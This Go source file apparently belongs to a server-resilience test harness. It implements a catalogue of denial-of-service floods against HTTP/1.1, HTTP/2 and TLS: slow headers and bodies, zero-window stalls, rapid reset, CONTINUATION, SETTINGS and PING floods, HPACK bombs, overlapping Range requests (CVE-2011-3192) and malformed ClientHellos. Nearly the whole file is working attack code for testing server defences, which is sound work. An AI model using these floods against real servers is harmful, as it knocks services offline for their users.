package scale

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"net"
	"slices"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The kinds of floods, and together in which they come unless each comes alone.
var (
	slowKinds      = []string{"slow head", "slow body", "slow reading", "slow head of HTTP/2", "slow body of HTTP/2", "windows of 0", "windows of 1"}
	frameKinds     = []string{"rapid reset", "CONTINUATION", "SETTINGS", "PING", "PING that is not read", "HPACK bombs"}
	silentKinds    = []string{"nothing", "half a ClientHello", "ClientHello", "garbage"}
	handshakeKinds = []string{"handshakes"}
	unreadKinds    = []string{"100 windows of 0"}
	rangeKinds     = []string{"ranges", "ranges that are not read"}
)

const (
	overHTTP1 = "http/1.1"
	overHTTP2 = http2.NextProtoTLS
)

var attacks = map[string]attack{
	"slow head": {protocol: overHTTP1, act: func(a *attacker) {
		_ = a.say([]byte("GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "))
		a.aside(a.listen, func() { a.drip([]byte("x")) })
	}},
	"slow body": {protocol: overHTTP1, act: func(a *attacker) {
		_ = a.say([]byte("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"))
		a.aside(a.listen, func() { a.drip([]byte("x")) })
	}},
	"slow reading": {protocol: overHTTP1, deaf: true, act: func(a *attacker) {
		_ = a.say([]byte("GET /1m HTTP/1.1\r\nHost: a\r\n\r\n"))
		a.sip()
	}},
	"slow head of HTTP/2": {protocol: overHTTP2, act: func(a *attacker) {
		_ = a.preface() && a.say(frames(func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: append(block("GET", "/"), "\x00\x01x\x7f\x00"...)})
		})) // the value of the last field has 127 bytes
		a.aside(a.listen, func() { a.drip(frames(func(f *http2.Framer) { _ = f.WriteContinuation(1, false, []byte("x")) })) })
	}},
	"slow body of HTTP/2": {protocol: overHTTP2, act: func(a *attacker) {
		_ = a.preface() && a.say(asks(1, false, block("POST", "/", "content-length", "100000")))
		a.aside(a.listen, func() { a.drip(frames(func(f *http2.Framer) { _ = f.WriteData(1, false, []byte("x")) })) })
	}},
	"windows of 0": {protocol: overHTTP2, act: func(a *attacker) {
		_ = a.preface(http2.Setting{ID: http2.SettingInitialWindowSize}) && a.say(asks(1, true, block("GET", "/1m")))
		a.begun()
		a.listen()
	}},
	"100 windows of 0": {protocol: overHTTP2, act: func(a *attacker) {
		_ = a.preface(http2.Setting{ID: http2.SettingInitialWindowSize})
		a.aside(a.listen, func() {
			get := block("GET", "/200k")
			for id := uint32(1); id < 200 && a.say(asks(id, true, get)); id += 2 {
			}
			a.begun()
			<-a.ctx.Done()
		})
	}},
	"windows of 1": {protocol: overHTTP2, act: func(a *attacker) {
		_ = a.preface(http2.Setting{ID: http2.SettingInitialWindowSize}) && a.say(asks(1, true, block("GET", "/1m")))
		a.aside(a.listen, func() { a.drip(frames(func(f *http2.Framer) { _ = f.WriteWindowUpdate(1, 1) })) })
	}},

	"rapid reset": {protocol: overHTTP2, again: true, act: func(a *attacker) {
		_ = a.preface()
		a.aside(a.listen, func() {
			a.begun()
			get := block("GET", "/")
			for id := uint32(1); a.say(frames(func(f *http2.Framer) {
				for range 50 {
					_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: get, EndHeaders: true, EndStream: true})
					_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
					id += 2
				}
			})); {
			}
		})
	}},
	"CONTINUATION": {protocol: overHTTP2, again: true, act: func(a *attacker) {
		_ = a.preface() && a.say(frames(func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block("GET", "/")})
		}))
		a.aside(a.listen, func() {
			a.pour(many(func(f *http2.Framer) { _ = f.WriteContinuation(1, false, []byte("\x00\x01x\x01y")) }))
		})
	}},
	"SETTINGS": {protocol: overHTTP2, again: true, act: func(a *attacker) {
		_ = a.preface()
		a.aside(a.listen, func() {
			a.pour(many(func(f *http2.Framer) {
				_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
			}))
		})
	}},
	"PING": {protocol: overHTTP2, again: true, act: func(a *attacker) {
		_ = a.preface()
		a.aside(a.listen, func() { a.pour(pings) })
	}},
	"PING that is not read": {protocol: overHTTP2, again: true, deaf: true, act: func(a *attacker) {
		_ = a.preface()
		a.pour(pings)
	}},
	"HPACK bombs": {protocol: overHTTP2, again: true, act: func(a *attacker) {
		_ = a.preface()
		a.aside(a.listen, func() {
			a.begun()
			bomb := bomb()
			for id := uint32(1); a.say(asks(id, true, bomb)); id += 2 {
				bomb = bytes.Repeat([]byte{newestEntry}, 16000)
			}
		})
	}},

	"nothing": {act: func(a *attacker) {
		a.begun()
		a.listen()
	}},
	"half a ClientHello": {act: func(a *attacker) {
		_ = a.say(clientHello()[:100])
		a.begun()
		a.listen()
	}},
	"ClientHello": {act: func(a *attacker) {
		_ = a.say(clientHello())
		a.begun()
		a.listen()
	}},
	"garbage": {again: true, act: func(a *attacker) {
		garbage := make([]byte, 300)
		_, _ = rand.Read(garbage)
		_ = a.say(append([]byte{22, 3, 1, 1, 0}, garbage...)) // which says that it is a handshake
		a.begun()
		a.listen()
	}},
	"ranges": {protocol: overHTTP1, again: true, act: func(a *attacker) {
		a.aside(a.listen, func() { a.pour(manyRanges) })
	}},
	"ranges that are not read": {protocol: overHTTP1, again: true, deaf: true, act: func(a *attacker) {
		_ = a.say(manyRanges)
		a.sip()
	}},
	"greed": {protocol: overHTTP1, again: true, act: func(a *attacker) {
		a.aside(a.listen, func() { a.pour([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n")) })
	}},
	"handshakes": {protocol: overHTTP1, again: true, act: func(a *attacker) { a.begun() }},
}

// sip reads one byte each second.
func (a *attacker) sip() {
	one := make([]byte, 1)
	a.begun()
	for {
		if _, err := a.Read(one); err != nil || !a.rest() {
			return
		}
	}
}

// frames are what is written with a framer.
func frames(write func(*http2.Framer)) []byte {
	var b bytes.Buffer
	f := http2.NewFramer(&b, nil)
	f.AllowIllegalWrites = true
	write(f)
	return b.Bytes()
}

// many is the same frame a hundred times.
func many(write func(*http2.Framer)) []byte { return bytes.Repeat(frames(write), 100) }

var pings = many(func(f *http2.Framer) { _ = f.WritePing(false, [8]byte{1}) })

// manyRanges asks for a file in overlapping parts (CVE-2011-3192).
var manyRanges = []byte("GET /large.bin HTTP/1.1\r\nHost: a\r\nRange: bytes=0-" + strings.Repeat(",5-", 1000) + "\r\n\r\n")

// block is the head of a request.
func block(method, path string, fields ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for pair := range slices.Chunk(append([]string{":method", method, ":scheme", "https", ":authority", "a", ":path", path}, fields...), 2) {
		_ = e.WriteField(hpack.HeaderField{Name: pair[0], Value: pair[1]})
	}
	return b.Bytes()
}

// asks is a request's head in a frame.
func asks(id uint32, end bool, block []byte) []byte {
	return frames(func(f *http2.Framer) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: end})
	})
}

// newestEntry names the newest entry of the dynamic table (RFC 7541 section 6.1).
const newestEntry = 0x80 | 62

// bomb is a head with a large field, which it names again and again with a byte each.
func bomb() []byte {
	return append(block("GET", "/", "x-bomb", strings.Repeat("a", 3000)), bytes.Repeat([]byte{newestEntry}, 10000)...)
}

// clientHello is what a client says first.
var clientHello = sync.OnceValue(func() []byte {
	here, there := net.Pipe()
	defer here.Close()
	go func() {
		_ = tls.Client(there, &tls.Config{ServerName: "a"}).Handshake()
		_ = there.Close()
	}()
	b := make([]byte, 8<<10)
	n, _ := here.Read(b)
	return b[:n]
})
